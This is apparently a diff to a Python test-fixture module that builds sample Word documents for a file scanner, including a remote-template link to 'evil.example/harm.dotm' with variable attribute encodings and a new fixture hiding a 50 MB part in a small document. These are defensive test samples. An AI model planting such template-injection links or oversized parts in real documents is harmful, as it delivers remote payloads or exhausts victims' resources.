@@ -96,15 +96,21 @@ def docx_with_macros() -> bytes:
     return docx("run me", main=MACROS, parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
 
 
-def docx_that_loads() -> bytes:
+def docx_that_loads(mode: str = 'TargetMode="External"', encoding: str = "utf-8") -> bytes:
+    """A document with a template elsewhere; `mode` is how its link says that it is elsewhere."""
     kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
     links = (
-        f'<Relationships><Relationship Id="r1" Type="{kind}/attachedTemplate" '
-        'Target="http://evil.example/harm.dotm" TargetMode="External"/>'
+        f'<Relationships xmlns:z="z"><Relationship Id="r1" {mode} Type="{kind}/attachedTemplate" '
+        'Target="http://evil.example/harm.dotm"/>'
         f'<Relationship Id="r2" Type="{kind}/hyperlink" Target="http://city.example/" TargetMode="External"/>'
         "</Relationships>"
     )
-    return docx("letter", parts={"word/_rels/settings.xml.rels": links.encode()})
+    return docx("letter", parts={"word/_rels/settings.xml.rels": links.encode(encoding)})
+
+
+def docx_blown_up() -> bytes:
+    """A document of a few kilobytes with a part of 50 MB that nobody looks at."""
+    return docx("small", parts={"word/embeddings/1.bin": bytes(50 * 1024**2)})
 
 
 def sheet() -> bytes:
